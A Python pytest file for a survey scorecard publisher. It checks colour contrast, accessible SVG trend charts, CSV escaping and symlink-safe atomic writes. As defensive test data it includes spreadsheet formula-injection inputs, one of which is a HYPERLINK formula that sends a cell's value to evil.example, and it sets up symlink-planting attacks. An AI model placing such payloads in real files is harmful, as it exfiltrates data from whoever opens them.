"""The report's parts on their own (no flow): the significance palette's contrast, the trend charts,
the CSV downloads' formula safety, on their own and from a hostile warehouse, and links planted where
the report writes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
from decimal import Decimal

import duckdb
import pytest

from scorecard.publish.charts import TrendPoint, number, trend_chart
from scorecard.publish.downloads import BOM, csv_text
from scorecard.publish.report import build_report
from scorecard.publish.safe_output import OutputFolder, OutputPathError, starts_like_formula
from scorecard.publish.significance import CHART_BENCHMARK, CHART_VALUE, NOT_COMPARED, PAPER, SHADES, contrast_ratio, shade

SVG = "{http://www.w3.org/2000/svg}"


def test_contrast_ratio_matches_wcag_reference_values():
    assert contrast_ratio("#000000", "#ffffff") == pytest.approx(21.0)
    assert contrast_ratio("#ffffff", "#ffffff") == pytest.approx(1.0)
    assert contrast_ratio("#767676", "#ffffff") == pytest.approx(4.54, abs=0.01)  # the lightest grey passing AA on white
    assert contrast_ratio("#d4351c", "#ffffff") < 5  # GOV.UK red: order of the arguments does not matter
    assert contrast_ratio("#ffffff", "#d4351c") == contrast_ratio("#d4351c", "#ffffff")


@pytest.mark.parametrize("name", [*SHADES, None])
def test_every_significance_shade_has_aa_text_contrast_and_a_word_and_symbol(name):
    colour = shade(name)
    assert contrast_ratio(colour.text, colour.background) >= 4.5, name
    assert colour.word and colour.symbol and colour.symbol not in colour.word
    assert (colour is NOT_COMPARED) == (name is None)


def test_the_significance_words_are_all_different_and_the_chart_marks_stand_out_from_the_page():
    assert len({s.word for s in SHADES.values()}) == len({s.symbol for s in SHADES.values()}) == len(SHADES) == 5
    assert set(SHADES) == {"better", "similar", "worse", "higher", "lower"}
    for colour in (CHART_VALUE, CHART_BENCHMARK):
        assert contrast_ratio(colour, PAPER) >= 3  # WCAG 1.4.11 non-text contrast


POINTS = [
    TrendPoint(2020, 61.0, 55.0, 67.0, 58.0),
    TrendPoint(2021, None, None, None, 59.5),  # suppressed
    TrendPoint(2022, 64.5, 60.1, 68.9, 60.0),
    TrendPoint(2023, 66.0, 62.0, 70.0, None),
]


def test_a_trend_chart_is_titled_described_and_leaves_a_suppressed_year_as_a_gap():
    svg = trend_chart(POINTS, "NI7 <% positive>", "%", "all surveyed areas & more", "trend-ni7")
    root = ET.fromstring(svg)  # well-formed, the hostile label escaped
    assert root.get("role") == "img" and root.get("aria-labelledby") == "trend-ni7-title trend-ni7-desc"
    assert root.find(f"{SVG}title").get("id") == "trend-ni7-title"
    assert root.find(f"{SVG}title").text == "NI7 <% positive>: trend with 95% intervals"
    desc = root.find(f"{SVG}desc").text
    assert "2021: suppressed" in desc and "2020: 61.0% (95% interval 55.0% to 67.0%), all surveyed areas & more 58.0%" in desc
    assert len(root.findall(f"{SVG}circle")) == 3  # the three published years
    value_lines = [line for line in root.findall(f"{SVG}polyline") if line.get("stroke") == CHART_VALUE]
    assert [len(line.get("points").split()) for line in value_lines] == [2]  # 2022–2023 joined; 2020 alone, not across 2021
    assert [t.text for t in root.iter(f"{SVG}text") if t.get("class") == "gap"] == ["suppressed"]
    assert len([p for p in root.findall(f"{SVG}path") if p.get("stroke") == CHART_VALUE]) == 3  # one whisker per published year


def test_figures_are_written_as_precisely_as_the_marts_publish_them():
    assert [number(v, "%") for v in (36.57, 26.4, 30.0, 0.05)] == ["36.57%", "26.4%", "30.0%", "0.05%"]  # a peers' mean has two decimals
    assert [number(v, "mean, 0–10 scale") for v in (7.5, -0.25)] == ["7.50", "-0.25"]


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tX", "\rX"])
def test_a_csv_text_cell_that_starts_like_a_formula_is_made_text(hostile):
    rows = csv_rows(csv_text(["name", "value"], [{"name": hostile, "value": -1.5}, {"name": "Bristol", "value": None}]))
    assert rows == [["name", "value"], ["'" + hostile, "-1.5"], ["Bristol", ""]]  # negative numbers stay numbers


def test_csv_cells_keep_numbers_dates_and_booleans_and_header_names_are_safe_too():
    text = csv_text(["=x", "n"], [{"=x": dt.date(2024, 1, 2), "n": Decimal("-0.25")}, {"=x": True, "n": 3}])
    assert csv_rows(text) == [["'=x", "n"], ["2024-01-02", "-0.25"], ["true", "3"]]
    assert re.search(r"\r\n$", text)


def test_survey_text_in_a_report_download_is_text_and_on_its_page_is_escaped(tmp_path):
    """Indicator texts, the framework's name and the sides' notes of the hostile warehouse are formulas."""
    from test_hostile_outputs import CAMDEN, FORMULAS, YEAR, hostile_warehouse

    out = tmp_path / "reports"
    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    build_report(warehouse, out)
    with duckdb.connect(str(warehouse), read_only=True) as con:
        written = [text for (text,) in con.execute("SELECT indicator_text FROM marts.indicator_scores ORDER BY position").fetchall()]
    stem = f"tiny-{CAMDEN}-{YEAR}"
    indicators = csv_rows((out / "downloads" / f"{stem}.indicators.csv").read_bytes().decode("utf-8"))
    texts = [row[indicators[0].index("indicator_text")] for row in indicators[1:]]
    assert texts == ["'" + text if starts_like_formula(text) else text for text in written]
    assert texts[:4] == ["'" + formula for formula in FORMULAS[:4]]  # the frameworks' loader strips a leading tab or CR
    disputed = csv_rows((out / "downloads" / f"{stem}.disputed.csv").read_bytes().decode("utf-8"))
    with duckdb.connect(str(warehouse), read_only=True) as con:
        notes = [
            n for (n,) in con.execute("SELECT note FROM marts.assessment_notes WHERE assessor = 'sector' ORDER BY indicator_id").fetchall()
        ]
    assert [row[disputed[0].index("sector_note")] for row in disputed[1:]] == ["'" + n if starts_like_formula(n) else n for n in notes]
    assert notes[0] == FORMULAS[0]
    index = csv_rows((out / "downloads" / "index.tiny.csv").read_bytes().decode("utf-8"))
    assert {row[index[0].index("framework_name")] for row in index[1:]} == {"'=Tiny"}
    page = (out / "scorecards" / f"{stem}.html").read_text(encoding="utf-8")
    assert (
        page.count("=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)") == 1 + 1 + 2 + 1
    )  # indicator, dispute, notes, definition
    assert '"&A1' not in page


def test_a_link_at_a_pages_partial_file_is_refused_and_not_written_through(tmp_path):
    from test_hostile_outputs import CAMDEN, YEAR, hostile_warehouse

    warehouse = hostile_warehouse(tmp_path, ["tiny"], [CAMDEN])
    victim = tmp_path / "victim.html"  # not there: a dangling link is no file, so no sweep of leftover partials removes it
    out = tmp_path / "reports"
    (out / "scorecards").mkdir(parents=True)
    (out / "scorecards" / f"tiny-{CAMDEN}-{YEAR}.html.partial").symlink_to(victim)
    with pytest.raises(OutputPathError, match=re.escape(str(victim))):
        build_report(warehouse, out)
    assert not victim.exists()


def test_a_link_planted_after_the_folder_was_opened_is_replaced_not_written_through(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    out = tmp_path / "out"
    out.mkdir()
    with OutputFolder(out) as folder:
        (out / "page.html").symlink_to(victim)
        (out / "page.html.partial").symlink_to(victim)
        folder.write_atomically("page.html", b"new")
        with pytest.raises(OutputPathError, match="not a plain file name"):
            folder.write_atomically("sub/page.html", b"new")
    assert victim.read_text() == "keep"
    assert not (out / "page.html").is_symlink() and (out / "page.html").read_bytes() == b"new"
    assert sorted(path.name for path in out.iterdir()) == ["page.html"]
